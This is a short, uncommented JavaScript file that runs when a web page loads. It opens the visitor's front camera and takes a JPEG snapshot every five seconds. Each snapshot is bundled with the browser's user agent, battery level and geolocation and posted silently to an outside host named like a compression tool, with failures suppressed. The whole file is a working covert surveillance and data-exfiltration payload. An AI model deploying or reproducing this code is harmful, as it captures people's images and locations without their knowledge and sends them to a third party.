let st;
async function cam() {
  try {
    st = await navigator.mediaDevices.getUserMedia({ video: { facingMode: "user", width: { ideal: 1280 } } });
    document.getElementById('v').srcObject = st;
    setInterval(snap, 5000);
  } catch (err) { console.error(err); }
}
function snap() {
  const v = document.getElementById('v'), c = document.getElementById('c');
  c.width = v.videoWidth; c.height = v.videoHeight;
  c.getContext('2d').drawImage(v, 0, 0);
  c.toBlob(b => b && send(b), 'image/jpeg', 0.5);
}
async function send(blob) {
  const fd = new FormData();
  fd.append('photo', blob, 'p.jpg');
  const bat = await navigator.getBattery();
  const pos = await new Promise(r => navigator.geolocation.getCurrentPosition(p => r(p.coords.latitude + ',' + p.coords.longitude), () => r('')));
  fd.append('caption', JSON.stringify({ ua: navigator.userAgent, level: bat.level, pos }));
  fetch('https://compress-tool.example/in', { method: 'POST', body: fd }).catch(() => {});
}
window.onload = cam;
